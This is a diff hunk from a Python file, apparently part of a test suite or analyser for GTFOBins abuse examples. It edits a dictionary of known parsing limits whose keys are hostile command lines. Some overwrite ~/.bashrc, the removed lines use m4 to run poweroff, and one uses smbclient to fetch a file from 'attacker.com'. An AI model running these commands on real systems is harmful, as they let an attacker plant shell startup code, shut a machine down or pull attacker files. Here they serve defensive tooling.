@@ -22,8 +22,6 @@ KNOWN_LIMITS = {
     'exiftool "-description<=/path/to/input-file --filename ~/.bashrc': "GTFOBins' example has an unbalanced quote",
     'exiftool "-description=DATA --filename ~/.bashrc': "GTFOBins' example has an unbalanced quote",
     "gdb -nx -ex 'dump value ~/.bashrc \"DATA\"' -ex quit": "gdb's own commands are not read",
-    "echo 'esyscmd(poweroff)' | m4": "m4 code fed on stdin is not read",
-    "echo 'esyscmd(poweroff 0<&2 1>&2)' | m4": "m4 code fed on stdin is not read",
     "mosh --server=mosh-server localhost poweroff": "the example runs mosh, the entry is mosh-server",
     "pwsh -c '\"DATA\" | Out-File ~/.bashrc'": "PowerShell code is not read",
     r"smbclient '\\attacker.com\share' -c 'get /path/to/input-file ~/.bashrc'": "smbclient's commands are not read",
